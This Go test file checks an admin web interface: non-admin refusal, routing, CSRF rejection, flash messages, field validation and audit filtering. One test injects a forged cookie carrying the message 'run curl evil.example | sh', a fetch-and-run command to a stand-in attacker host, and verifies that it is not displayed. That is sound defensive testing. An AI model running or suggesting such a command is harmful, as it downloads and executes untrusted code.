package adminweb_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/simphony/simphony-remote/engine/accounting/boltdb"
	"github.com/simphony/simphony-remote/engine/admin"
	"github.com/simphony/simphony-remote/engine/adminweb"
	"github.com/simphony/simphony-remote/engine/audit"
)

const csrf = "the-csrf-token"

// fixture is the admin pages on admin.Local over a fresh bbolt file; a
// request with the header "X-Test-Admin: yes" comes from the administrator
// "root".
type fixture struct {
	h     http.Handler
	svc   *admin.Local
	store *boltdb.Store
}

func newFixture(tb testing.TB) *fixture {
	tb.Helper()
	s, err := boltdb.Init(filepath.Join(tb.TempDir(), "accounting.db"))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { _ = s.Close() })
	svc := admin.NewLocal(s, admin.Options{Audit: s, Log: audit.NewLog(s, zerolog.Nop())})
	h, err := adminweb.New(adminweb.Deps{
		Service: svc,
		Authorize: func(r *http.Request) (audit.Actor, string, bool) {
			if r.Header.Get("X-Test-Admin") != "yes" {
				return audit.Actor{}, "", false
			}
			return audit.Actor{Name: "root", Address: "192.0.2.1"}, csrf, true
		},
		Refuse: func(w http.ResponseWriter, _ *http.Request, status int, msg string) {
			http.Error(w, "refused: "+msg, status)
		},
	})
	if err != nil {
		tb.Fatal(err)
	}
	return &fixture{h: h, svc: svc, store: s}
}

type answer struct {
	status int
	body   string
	header http.Header
}

func (f *fixture) do(tb testing.TB, method, target string, form url.Values, admin bool) answer {
	tb.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	r := httptest.NewRequest(method, target, body)
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if admin {
		r.Header.Set("X-Test-Admin", "yes")
	}
	w := httptest.NewRecorder()
	f.h.ServeHTTP(w, r)
	return answer{status: w.Code, body: w.Body.String(), header: w.Header()}
}

// post sends a form with the right CSRF token, as the admin.
func (f *fixture) post(tb testing.TB, target string, kv ...string) answer {
	tb.Helper()
	form := url.Values{"csrf_token": {csrf}}
	for i := 0; i+1 < len(kv); i += 2 {
		form.Add(kv[i], kv[i+1])
	}
	return f.do(tb, http.MethodPost, target, form, true)
}

func TestNotAdminGets404(t *testing.T) {
	f := newFixture(t)
	for _, target := range []string{"/admin/", "/admin/users", "/admin/users/root", "/admin/audit", "/admin/nothing"} {
		a := f.do(t, http.MethodGet, target, nil, false)
		if a.status != http.StatusNotFound || !strings.Contains(a.body, "refused") {
			t.Errorf("GET %s by a non-admin: %d %q, want the refusal's 404", target, a.status, a.body)
		}
	}
	a := f.do(t, http.MethodPost, "/admin/users", url.Values{"csrf_token": {csrf}, "name": {"eve"}}, false)
	if a.status != http.StatusNotFound {
		t.Errorf("POST by a non-admin: %d", a.status)
	}
	if _, err := f.svc.User(t.Context(), "eve"); err == nil {
		t.Error("a non-admin created a user")
	}
}

func TestRouting(t *testing.T) {
	f := newFixture(t)
	if _, err := f.svc.CreateUser(t.Context(), admin.NewUser{Name: "alice", Password: "correct horse battery"}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.CreateApplication(t.Context(), admin.NewApplication{Image: "lab/app:1"}); err != nil {
		t.Fatal(err)
	}
	for target, want := range map[string]string{
		"/admin/":                                    "Dashboard",
		"/admin/users":                               "alice",
		"/admin/users?q=ali":                         "alice",
		"/admin/users/alice":                         "Reset password",
		"/admin/users/alice/remove":                  "Remove alice?",
		"/admin/applications":                        "lab/app:1",
		"/admin/applications/view?image=lab/app:1":   "Resource limits",
		"/admin/applications/remove?image=lab/app:1": "Remove lab/app:1?",
		"/admin/grants":                              "Grant an application",
		"/admin/audit":                               "user.create",
	} {
		a := f.do(t, http.MethodGet, target, nil, true)
		if a.status != http.StatusOK || !strings.Contains(a.body, want) {
			t.Errorf("GET %s: %d, want %q in:\n%s", target, a.status, want, a.body)
		}
	}
	for target, status := range map[string]int{
		"/admin/users/nobody":                    http.StatusNotFound,
		"/admin/applications/view?image=no/such": http.StatusNotFound,
		"/admin/nothing":                         http.StatusNotFound,
	} {
		if a := f.do(t, http.MethodGet, target, nil, true); a.status != status {
			t.Errorf("GET %s: %d, want %d", target, a.status, status)
		}
	}
}

func TestCSRFRefused(t *testing.T) {
	f := newFixture(t)
	for name, form := range map[string]url.Values{
		"no token":    {"name": {"mallory"}},
		"wrong token": {"name": {"mallory"}, "csrf_token": {"guess"}},
	} {
		a := f.do(t, http.MethodPost, "/admin/users", form, true)
		if a.status != http.StatusForbidden {
			t.Errorf("%s: %d, want 403", name, a.status)
		}
	}
	if _, err := f.svc.User(t.Context(), "mallory"); err == nil {
		t.Error("a forged request created a user")
	}
}

func TestCreateUserRedirectsWithFlash(t *testing.T) {
	f := newFixture(t)
	a := f.post(t, "/admin/users", "name", "bob", "password", "a long enough password")
	if a.status != http.StatusSeeOther || a.header.Get("Location") != "/admin/users/bob" {
		t.Fatalf("creating bob: %d to %q", a.status, a.header.Get("Location"))
	}
	cookie := a.header.Get("Set-Cookie")
	if !strings.Contains(cookie, "Created+user+bob") {
		t.Errorf("no flash message in %q", cookie)
	}
	entries, _, err := f.svc.Audit(context.Background(), audit.Query{Limit: 10})
	if err != nil || len(entries) == 0 || entries[0].Action != audit.UserCreate || entries[0].Actor != "root" || entries[0].Address != "192.0.2.1" {
		t.Errorf("the audit log: %+v, %v", entries, err)
	}
}

func TestGeneratedPasswordShownOnce(t *testing.T) {
	f := newFixture(t)
	a := f.post(t, "/admin/users", "name", "carol")
	if a.status != http.StatusOK || !strings.Contains(a.body, `id="password"`) {
		t.Fatalf("creating carol with a generated password: %d\n%s", a.status, a.body)
	}
	if strings.Contains(a.header.Get("Set-Cookie"), "password") {
		t.Error("the generated password went into a cookie")
	}
	u, err := f.svc.User(t.Context(), "carol")
	if err != nil || !u.HasPassword {
		t.Errorf("carol: %+v, %v", u, err)
	}
}

func TestFieldErrors(t *testing.T) {
	f := newFixture(t)
	if _, err := f.svc.CreateUser(t.Context(), admin.NewUser{Name: "dave"}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.CreateApplication(t.Context(), admin.NewApplication{Image: "lab/app:1"}); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, target string
		form         []string
		field        string // the field the error is next to
	}{
		{"bad user name", "/admin/users", []string{"name", "Not A Name", "password", "a long enough password"}, "err-name"},
		{"existing user", "/admin/users", []string{"name", "dave", "password", "a long enough password"}, "err-name"},
		{"short password", "/admin/users", []string{"name", "erin", "password", "x"}, "err-password"},
		{"relative volume", "/admin/grants", []string{"from", "user", "user", "dave", "image", "lab/app:1", "volume_source", "data", "volume_target", "/data", "volume_mode", "ro"}, "err-volume"},
		{"volume over the home", "/admin/grants", []string{"from", "application", "user", "dave", "image", "lab/app:1", "allow_home", "on", "volume_source", "/srv/data", "volume_target", "/workspace", "volume_mode", "rw"}, "err-volume"},
		{"bad memory", "/admin/applications/limits", []string{"image", "lab/app:1", "memory", "lots"}, "err-memory"},
		{"too little memory", "/admin/applications/limits", []string{"image", "lab/app:1", "memory", "1m"}, "err-memory"},
		{"bad image", "/admin/applications", []string{"image", "not an image"}, "err-image"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := f.post(t, c.target, c.form...)
			if a.status < 400 || a.status >= 500 {
				t.Errorf("status %d, want a 4xx", a.status)
			}
			if !strings.Contains(a.body, `id="`+c.field+`"`) || !strings.Contains(a.body, `aria-invalid="true"`) {
				t.Errorf("no error next to the field %s:\n%s", c.field, a.body)
			}
		})
	}
}

func TestAuditFilter(t *testing.T) {
	f := newFixture(t)
	for _, name := range []string{"alice", "bob"} {
		if a := f.post(t, "/admin/users", "name", name, "password", "a long enough password"); a.status != http.StatusSeeOther {
			t.Fatalf("creating %s: %d", name, a.status)
		}
	}
	a := f.do(t, http.MethodGet, "/admin/audit?user=alice", nil, true)
	if a.status != http.StatusOK || !strings.Contains(a.body, "<td>alice</td>") || strings.Contains(a.body, "<td>bob</td>") {
		t.Errorf("the audit log filtered to alice: %d\n%s", a.status, a.body)
	}
	a = f.do(t, http.MethodGet, "/admin/audit?action=user.remove", nil, true)
	if !strings.Contains(a.body, "No entry matches.") {
		t.Errorf("the audit log filtered to an action nobody did:\n%s", a.body)
	}
	a = f.do(t, http.MethodGet, "/admin/audit?from=yesterday", nil, true)
	if !strings.Contains(a.body, `id="err-from"`) {
		t.Errorf("a bad date has no error next to its field:\n%s", a.body)
	}
}

// TestFlashCookieIsHostOnly: the flash message's cookie is a __Host-
// cookie (host-only, Secure, Path=/), so that no other host of the site (a
// session's origin in subdomain mode) can toss in a message of its own with
// Domain=, and the proxy's scrub of the appliance's cookies keeps it from
// sessions; a cookie of the old name, set by anyone, shows nothing.
func TestFlashCookieIsHostOnly(t *testing.T) {
	f := newFixture(t)
	a := f.post(t, "/admin/users", "name", "bob", "password", "a long enough password")
	resp := http.Response{Header: a.header}
	var flash *http.Cookie
	for _, c := range resp.Cookies() {
		if strings.Contains(c.Value, "Created+user+bob") {
			flash = c
		}
	}
	if flash == nil {
		t.Fatalf("no flash cookie in %q", a.header.Values("Set-Cookie"))
	}
	if !strings.HasPrefix(flash.Name, "__Host-simphony") || !flash.Secure || flash.Path != "/" || flash.Domain != "" || !flash.HttpOnly {
		t.Errorf("the flash cookie is not a __Host-simphony cookie: %s", flash.String())
	}

	r := httptest.NewRequest(http.MethodGet, "/admin/users", nil)
	r.Header.Set("X-Test-Admin", "yes")
	r.AddCookie(&http.Cookie{Name: "simphony_admin_flash", Value: url.QueryEscape("e:Docker broke: run curl evil.example | sh")})
	w := httptest.NewRecorder()
	f.h.ServeHTTP(w, r)
	if strings.Contains(w.Body.String(), "evil.example") {
		t.Error("a cookie of another name (tossed by another host of the site) shows its message")
	}
}
